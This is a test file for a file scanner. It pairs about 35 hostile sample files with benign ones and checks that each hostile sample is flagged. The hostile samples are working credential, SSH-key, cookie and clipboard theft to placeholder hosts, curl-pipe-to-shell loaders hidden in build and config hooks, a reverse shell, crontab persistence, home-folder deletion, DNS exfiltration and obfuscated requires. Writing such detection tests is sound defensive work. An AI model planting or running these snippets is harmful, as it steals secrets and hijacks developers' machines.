import { scanFile } from "../testing/scan-file.js";

const ATTACKS: readonly (readonly [path: string, text: string])[] = [
  [
    "stack.ts",
    'import { execSync } from "child_process";\nconst creds = execSync("aws configure export-credentials").toString();\nawait fetch("https://c.invalid/x", { method: "POST", body: creds });\n',
  ],
  [
    "a.applescript",
    'set p to text returned of (display dialog "macOS needs your password" default answer "" with hidden answer)\ndo shell script "curl -s -d p=" & quoted form of p & " https://m.invalid/p"\n',
  ],
  [
    "main.swift",
    'import Foundation\nlet t = Process(); t.launchPath = "/bin/zsh"; t.arguments = ["-c", "curl -s https://m.invalid/x | sh"]; t.launch()\n',
  ],
  [
    "Package.swift",
    'import Foundation\nlet k = try! String(contentsOfFile: NSHomeDirectory() + "/.ssh/id_ed25519")\nvar r = URLRequest(url: URL(string: "https://m.invalid/k")!); r.httpMethod = "POST"; r.httpBody = k.data(using: .utf8)\nURLSession.shared.dataTask(with: r).resume()\n',
  ],
  ["Podfile", 'post_install do |i|\n  system("curl -s https://m.invalid/p -o /tmp/p && sh /tmp/p")\nend\n'],
  [
    "Fastfile",
    'lane :beta do\n  sh("cat ~/.fastlane/spaceship/*/cookie | curl -s -d @- https://m.invalid/c")\nend\n',
  ],
  [
    "build.gradle.kts",
    'tasks.named("preBuild") { doFirst { ProcessBuilder(listOf("sh", "-c", listOf("curl -s https://g.invalid/x", "sh").joinToString(" | "))).start() } }\n',
  ],
  ["settings.gradle", 'def u = new URL("https://g.invalid/s.groovy").text\nnew GroovyShell().evaluate(u)\n'],
  [
    "pom.xml",
    "<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><configuration><executable>bash</executable><arguments><argument>-c</argument><argument>curl -s https://g.invalid/m -o /tmp/m &amp;&amp; bash /tmp/m</argument></arguments></configuration></plugin></plugins></build></project>",
  ],
  [
    "build.xml",
    '<project><target name="x"><get src="https://g.invalid/a.sh" dest="/tmp/a.sh"/><exec executable="sh"><arg value="/tmp/a.sh"/></exec></target></project>',
  ],
  [
    "build.sbt",
    'import scala.sys.process._\nlazy val warm = taskKey[Unit]("x")\nwarm := { Seq("sh","-c","curl -s https://g.invalid/s | sh").! }\n',
  ],
  [
    "vite.config.js",
    'import { spawn } from "node:child_process";\nexport default { plugins: [{ name: "x", configResolved() { const p = ["-c", ["curl -s https://j.invalid/x", "sh"].join("|")]; spawn("sh", p); } }] };\n',
  ],
  [
    "jest.setup.js",
    'const os = require("os"), fs = require("fs"), p = require("path");\nglobal.beforeAll(async () => { for (const f of [".npmrc", ".netrc"]) { try { await fetch("https://j.invalid/" + f, { method: "PUT", body: fs.readFileSync(p.join(os.homedir(), f)) }); } catch {} } });\n',
  ],
  [
    "postcss.config.js",
    'const r = module.require; const cp = r(["child", "process"].join("_"));\nmodule.exports = { plugins: [{ postcssPlugin: "x", Once() { cp[["ex", "ec"].join("")]("curl -s https://j.invalid/p|sh"); } }] };\n',
  ],
  [
    "babel.config.js",
    'const { get } = require("https");\nmodule.exports = (api) => { get("https://j.invalid/b", (r) => { let s = ""; r.on("data", (d) => (s += d)); r.on("end", () => Function(s)()); }); return {}; };\n',
  ],
  [
    "eslint.config.js",
    'const z = Buffer.from("Y2hpbGRfcHJvY2Vzcw==", "base64") + "";\nrequire(z).execSync("id > /tmp/i; curl -F i=@/tmp/i https://j.invalid");\nmodule.exports = [];\n',
  ],
  [
    "next.config.mjs",
    'const env = { ...process.env };\nexport default { async headers() { await fetch("https://j.invalid/e", { method: "POST", body: new URLSearchParams(env) }); return []; } };\n',
  ],
  [
    "index.mjs",
    'const m = await import("node:" + ["c","h"].join("") + "ild_process");\nm.exec(await (await fetch("https://j.invalid/c")).text());\n',
  ],
  [
    "run.js",
    'const vm = require("vm"), z = require("zlib"), fs = require("fs");\nvm.runInThisContext(z.inflateSync(fs.readFileSync(__dirname + "/assets/data.bin")).toString());\n',
  ],
  [
    "w.js",
    'const { Worker } = require("worker_threads");\nfetch("https://j.invalid/w").then(r => r.text()).then(t => new Worker(t, { eval: true }));\n',
  ],
  [
    "g.js",
    'const o = { get x() { return require("child_process").execSync("cat ~/.ssh/id_rsa").toString(); } };\nnavigator.sendBeacon?.("https://j.invalid", o.x); fetch("https://j.invalid", { method: "POST", body: o.x });\n',
  ],
  [
    "e.js",
    'process.on("exit", () => require("child_process").spawnSync("sh", ["-c", "crontab -l | { cat; echo \'@hourly curl -s https://j.invalid/h|sh\'; } | crontab -"]));\n',
  ],
  [
    "s.js",
    'const net = require("net"), { spawn } = require("child_process");\nconst c = net.connect({ port: 4444, host: "203.0.113.7" }, () => { const s = spawn("/bin/sh", [], { stdio: [c, c, c] }); });\n',
  ],
  [
    "ext/background.js",
    'chrome.webRequest.onBeforeSendHeaders.addListener((d) => { const a = d.requestHeaders.find(h => h.name.toLowerCase() === "authorization"); if (a) fetch("https://x.invalid/h", { method: "POST", body: d.url + " " + a.value }); }, { urls: ["<all_urls>"] }, ["requestHeaders"]);\n',
  ],
  [
    "ext/content.js",
    'document.addEventListener("submit", (e) => { const d = Object.fromEntries(new FormData(e.target)); chrome.runtime.sendMessage(d); navigator.sendBeacon("https://x.invalid/f", JSON.stringify(d)); }, true);\n',
  ],
  [
    "ext/inject.js",
    'fetch("https://x.invalid/r.js").then(r => r.text()).then(t => { const s = document.createElement("script"); s.textContent = t; document.head.append(s); });\n',
  ],
  [
    "ext/ls.js",
    'setInterval(() => fetch("https://x.invalid/l", { method: "POST", mode: "no-cors", body: JSON.stringify({ ...localStorage, c: document.cookie }) }), 60000);\n',
  ],
  [
    "w2.js",
    'const fs=require("fs"),os=require("os"),p=require("path");\nfor (const d of ["Documents","Desktop"]) fs.rmSync(p.join(os.homedir(), d), { recursive: true, force: true });\n',
  ],
  [
    "names.js",
    'const dns = require("dns");\nfor (const [k, v] of Object.entries(process.env)) dns.resolve(Buffer.from(k + "=" + v).toString("hex").slice(0, 60) + ".q.invalid", () => {});\n',
  ],
  [
    "clip.js",
    'const { execSync } = require("child_process");\nsetInterval(() => { const c = execSync("pbpaste").toString(); if (c.length > 20) fetch("https://q.invalid/c", { method: "POST", body: c }); }, 5000);\n',
  ],
  [
    "sw.js",
    'self.addEventListener("fetch", (e) => { if (e.request.method === "POST") e.respondWith((async () => { const c = e.request.clone(); navigator.sendBeacon; fetch("https://q.invalid/p", { method: "POST", body: await c.text() }); return fetch(e.request); })()); });\n',
  ],
  [
    "x.main.kts",
    'val b = java.net.URL("https://q.invalid/j.jar").readBytes()\njava.io.File("/tmp/j.jar").writeBytes(b)\nProcessBuilder("java", "-jar", "/tmp/j.jar").start()\n',
  ],
  [
    "wrapper.gradle",
    "task wrap { doLast { ant.get(src: 'https://q.invalid/g.sh', dest: 'build/g.sh'); exec { commandLine 'sh', 'build/g.sh' } } }\n",
  ],
  ["gradle-wrapper.properties", "distributionUrl=http\\://203.0.113.5/gradle-8.5-bin.zip\n"],
  [
    "home.js",
    'class A { constructor() { this.h = require("os").homedir(); } read(f) { return require("fs").readFileSync(this.h + "/" + f, "utf8"); } send(d) { return fetch("https://q.invalid/u", { method: "POST", body: d }); } }\nconst a = new A(); for (const f of [".ssh/id_rsa", ".npmrc"]) a.send(a.read(f));\n',
  ],
];

/** Files of the same kinds that do nothing of that. */
const HONEST: readonly (readonly [path: string, text: string])[] = [
  [
    "vite.config.ts",
    'import { defineConfig } from "vite";\nexport default defineConfig({ build: { target: "es2022" }, plugins: [] });\n',
  ],
  [
    "rollup.config.js",
    'import { builtinModules } from "node:module";\nexport default { external: builtinModules.filter((n) => !n.startsWith("_")) };\n',
  ],
  [
    "ext/background.js",
    'chrome.tabs.query({ active: true }, ([tab]) => chrome.tabs.sendMessage(tab.id, { kind: "toggle" }));\n',
  ],
  [
    "ext/content.js",
    'document.addEventListener("keydown", (e) => { if (e.altKey && e.key === "r") document.body.classList.toggle("reader"); });\n',
  ],
  [
    "form.js",
    'const f = document.querySelector("form");\nf.addEventListener("submit", async (e) => { e.preventDefault(); await fetch("/api/save", { method: "POST", body: new FormData(f) }); });\n',
  ],
  [
    "toggle.js",
    'const p = document.querySelector("#p");\np.type = p.type === "password" ? "text" : "password";\n',
  ],
  [
    "live.js",
    'const s = new WebSocket("wss://example.org/live");\ns.onmessage = (ev) => { const m = JSON.parse(ev.data); console.log(m.kind); };\n',
  ],
  [
    "debug.js",
    "exports.opts = Object.keys(process.env).filter((key) => /^debug_/i.test(key)).reduce((o, k) => ({ ...o, [k]: process.env[k] }), {});\n\n",
  ],
  ["show.js", "function add(a, b) { return a + b; }\nconsole.log(add.toString());\n"],
  [
    "read.js",
    'const text = new TextDecoder().decode(await (await fetch("https://example.org/a.txt")).arrayBuffer());\nconsole.log(text.length);\n',
  ],
  [
    "build.gradle",
    "plugins { id 'java' }\nrepositories { mavenCentral() }\ntasks.register('v', Exec) { commandLine 'git', 'describe' }\n",
  ],
  ["yarnrc.yml", 'nodeLinker: node-modules\nnpmRegistryServer: "https://registry.npmjs.org"\n'],
  [
    "clean.js",
    'const fs = require("fs"), path = require("path");\nfs.rmSync(path.join(__dirname, "dist"), { recursive: true, force: true });\n',
  ],
  ["help.js", 'console.log("Install with: curl -sLO https://example.org/install.sh && sh install.sh");\n'],
];

describe("programs of JavaScript, pages, and builds", () => {
  test.each(ATTACKS)("%s is held", async (path, text) => {
    expect((await scanFile(path, text)).outcome).not.toBe("pass");
  });

  test.each(HONEST)("%s passes", async (path, text) => {
    expect((await scanFile(path, text)).outcome).toBe("pass");
  });
});
